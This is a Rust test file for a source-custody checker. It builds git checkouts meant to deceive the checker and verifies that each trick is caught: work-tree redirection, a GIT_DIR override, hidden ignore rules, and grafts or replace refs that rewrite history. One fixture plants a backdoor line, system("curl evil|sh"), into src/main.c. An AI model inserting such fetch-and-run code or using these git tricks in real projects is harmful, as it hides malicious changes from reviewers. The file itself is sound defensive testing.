//! Checkouts crafted so that custody would judge other files or another history than git acts
//! on: a `core.worktree` pointing at a pristine copy, `GIT_DIR` in the environment, untracked
//! ignore rules hiding a file, a grafts file and replace refs rewriting history. Each must
//! fail, with its own code.

use super::git::{Repo, World, codes, messages};

fn world_with_repo() -> (World, Repo) {
    let w = World::new();
    let r = w.repo("r");
    r.commit(
        &w.person("Alice"),
        "init",
        &[
            ("README", "hello\n"),
            ("src/main.c", "int main(void) { return 0; }\n"),
            (".gitignore", "target/\n"),
        ],
    );
    (w, r)
}

#[test]
fn a_core_worktree_elsewhere_does_not_hide_the_backdoored_directory() {
    let (w, r) = world_with_repo();
    // A pristine copy elsewhere, named as the work tree; the directory itself is backdoored.
    let pristine = w.path("pristine");
    std::fs::create_dir_all(pristine.join("src")).unwrap();
    std::fs::write(pristine.join("README"), "hello\n").unwrap();
    std::fs::write(pristine.join(".gitignore"), "target/\n").unwrap();
    std::fs::write(
        pristine.join("src/main.c"),
        "int main(void) { return 0; }\n",
    )
    .unwrap();
    r.git(&["config", "core.worktree", pristine.to_str().unwrap()]);
    r.write(
        "src/main.c",
        "int main(void) { system(\"curl evil|sh\"); }\n",
    );
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1, "{report:#}");
    let failed = codes(&report, "fail");
    assert!(
        failed.contains(&"checkout-redirected".to_owned()),
        "{failed:?}"
    );
    // The directory itself was hashed: the edit is seen.
    assert!(failed.contains(&"checkout-dirty".to_owned()), "{failed:?}");
    assert!(messages(&report, "checkout-dirty").contains("modified: src/main.c"));
    assert!(messages(&report, "checkout-redirected").contains("core.worktree"));

    // The twin: without the redirection, the same clean directory passes.
    r.git(&["config", "--unset", "core.worktree"]);
    r.git(&["checkout", "--", "src/main.c"]);
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 0, "{report:#}");
}

#[test]
fn git_dir_in_the_environment_fails() {
    let (w, r) = world_with_repo();
    let out = crate::support::custody()
        .current_dir(w.path(""))
        .env("GIT_DIR", r.dir.join(".git"))
        .args(["source", "r", "--json"])
        .output()
        .unwrap();
    let report = crate::support::report(&out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    assert!(messages(&report, "checkout-redirected").contains("GIT_DIR="));
}

#[test]
fn only_the_commits_own_ignore_rules_hide_files() {
    let (w, r) = world_with_repo();
    // Ignored by the commit's .gitignore: not reported.
    r.write("target/build.o", "object");
    // Hidden by an untracked .gitignore and by info/exclude: reported all the same.
    r.write("src/.gitignore", "*\n");
    r.write("src/payload.c", "evil\n");
    r.write(".git/info/exclude", "hidden.h\n");
    r.write("hidden.h", "evil\n");
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1, "{report:#}");
    let wt = &report["artifacts"][0]["source"]["worktree"];
    assert_eq!(
        wt["untracked"],
        serde_json::json!(["hidden.h", "src/.gitignore", "src/payload.c"]),
        "{report:#}"
    );
    // The twin: with only what the commit ignores, the checkout is clean.
    for f in ["src/.gitignore", "src/payload.c", "hidden.h"] {
        std::fs::remove_file(r.dir.join(f)).unwrap();
    }
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 0, "{report:#}");
}

#[test]
fn a_negated_pattern_in_a_deeper_gitignore_re_includes_as_git_does() {
    let w = World::new();
    let r = w.repo("r");
    r.commit(
        &w.person("Alice"),
        "init",
        &[
            ("README", "hello\n"),
            (".gitignore", "*.log\n"),
            ("keep/.gitignore", "!important.log\n"),
        ],
    );
    r.write("debug.log", "noise\n");
    r.write("keep/other.log", "noise\n");
    r.write("keep/important.log", "news\n");
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1, "{report:#}");
    let untracked = &report["artifacts"][0]["source"]["worktree"]["untracked"];
    assert_eq!(untracked, &serde_json::json!(["keep/important.log"]));
    // git agrees.
    let status = r.git(&["status", "--porcelain", "--untracked-files=all"]);
    assert_eq!(status.trim(), "?? keep/important.log");
}

#[test]
fn grafts_and_replace_refs_that_rewrite_history_fail() {
    let (w, r) = world_with_repo();
    let first = r.head();
    let second = r.commit(&w.person("Mallory"), "unsigned", &[("x", "1")]);
    // A graft that makes the second commit a root: the unsigned history vanishes for libgit2.
    r.write(".git/info/grafts", &format!("{second}\n"));
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1, "{report:#}");
    assert!(messages(&report, "history-rewritten").contains("info/grafts"));
    std::fs::remove_file(r.dir.join(".git/info/grafts")).unwrap();

    // A replace ref: git would read another commit in place of the first.
    r.git(&["replace", "--graft", &second]);
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1, "{report:#}");
    assert!(messages(&report, "history-rewritten").contains("refs/replace/"));
    r.git(&["replace", "-d", &second]);

    // The twin: with both gone, the same checkout passes.
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 0, "{report:#}");
    assert_ne!(first, second);
}

#[test]
fn a_directory_inside_a_repository_is_judged_as_that_repository() {
    let (w, r) = world_with_repo();
    let (code, report) = w.source_json(&["r/src"]);
    assert_eq!(code, 0, "{report:#}");
    let source = &report["artifacts"][0]["source"];
    assert_eq!(
        source["repository"],
        std::fs::canonicalize(&r.dir).unwrap().display().to_string()
    );
    assert_eq!(codes(&report, "pass"), ["checkout-clean"]);
    // The human report says which repository was used.
    let (code, out, _) = w.custody(&["source", "r/src"]);
    assert_eq!(code, 0, "{out}");
    let top = std::fs::canonicalize(&r.dir).unwrap();
    assert!(
        out.contains(&format!("repository: {} (encloses r/src", top.display())),
        "{out}"
    );
    // A file changed outside the subdirectory still counts: the checkout is the repository.
    r.write("README", "changed\n");
    let (code, report) = w.source_json(&["r/src"]);
    assert_eq!(code, 1, "{report:#}");
}
